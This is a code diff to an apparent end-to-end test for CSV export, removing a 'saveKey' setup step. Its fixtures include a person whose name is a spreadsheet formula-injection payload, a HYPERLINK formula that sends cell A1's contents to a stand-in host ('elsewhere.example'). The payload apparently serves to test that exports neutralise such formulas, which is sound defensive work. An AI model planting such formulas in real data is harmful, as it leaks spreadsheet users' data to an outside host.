@@ -8,13 +8,12 @@ import { type CsvPreset, csvPresetNames } from '../../../utils/export/csv-preset
 import { exportAs, type Saving, saveInto } from '../harness/downloads.ts';
 import { fetchPerson, openLibrary, openPerson, seesCount } from '../harness/library.ts';
 import { shareWorld } from '../harness/shared-world.ts';
-import { fill, find, goodKey, press, saveKey } from '../harness/world.ts';
+import { fill, find, goodKey, press } from '../harness/world.ts';
 
 const maya = 'Maya Lindqvist';
 const edgar = '=HYPERLINK("https://elsewhere.example/?leak="&A1,"Edgar Formula")';
 
 const shared = shareWorld(async (world) => {
-  await saveKey(world);
   await fetchPerson(world, 'maya-lindqvist', maya);
   await fetchPerson(world, 'edgar-formula', edgar);
   await fetchPerson(world, 'tomas-okafor', 'Tomás Okafor');
